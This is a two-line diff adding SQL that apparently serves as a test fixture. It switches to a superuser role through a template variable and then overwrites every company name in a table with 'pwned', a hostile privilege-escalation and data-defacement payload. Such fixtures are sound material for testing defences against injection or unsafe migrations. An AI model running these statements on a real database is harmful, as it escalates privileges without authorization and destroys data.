@@ -1,0 +1,2 @@
+SET ROLE ${superuser};
+UPDATE public.companies SET name = 'pwned';
